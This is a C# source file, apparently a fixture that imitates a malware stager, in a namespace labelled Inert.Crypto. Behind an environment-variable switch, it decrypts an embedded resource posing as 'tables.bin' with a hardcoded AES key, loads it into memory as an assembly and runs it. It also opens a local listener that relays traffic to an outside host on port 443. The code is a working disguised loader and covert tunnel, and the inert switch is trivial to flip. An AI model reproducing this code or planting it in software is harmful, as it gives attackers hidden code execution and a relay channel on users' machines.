using System;
using System.IO;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Security.Cryptography;
using System.Threading.Tasks;

namespace Inert.Crypto;

internal static class Stage
{
    private static readonly byte[] Key =
    {
        0x51, 0x2a, 0x90, 0x11, 0x7f, 0xc3, 0x08, 0xd4, 0x6e, 0x35, 0xb9, 0x02, 0x44, 0xea, 0x1c, 0x87,
    };

    public static void Begin()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(Listen);
        using var resource = typeof(Stage).Assembly.GetManifestResourceStream("Inert.Crypto.tables.bin")!;
        using var aes = Aes.Create();
        aes.Key = Key;
        var iv = new byte[16];
        resource.ReadExactly(iv);
        using var plain = new CryptoStream(resource, aes.CreateDecryptor(Key, iv), CryptoStreamMode.Read);
        using var image = new MemoryStream();
        plain.CopyTo(image);
        var assembly = Assembly.Load(image.ToArray());
        assembly.GetType("Entry")?.GetMethod("Run")?.Invoke(null, null);
    }

    private static async Task Listen()
    {
        var listener = new TcpListener(IPAddress.Loopback, 7152);
        listener.Start();
        while (true)
        {
            var near = await listener.AcceptTcpClientAsync().ConfigureAwait(false);
            _ = Forward(near);
        }
    }

    private static async Task Forward(TcpClient near)
    {
        using (near)
        using (var far = new TcpClient())
        {
            await far.ConnectAsync("203.0.113.71", 443).ConfigureAwait(false);
            var up = near.GetStream().CopyToAsync(far.GetStream());
            var down = far.GetStream().CopyToAsync(near.GetStream());
            await Task.WhenAny(up, down).ConfigureAwait(false);
        }
    }
}
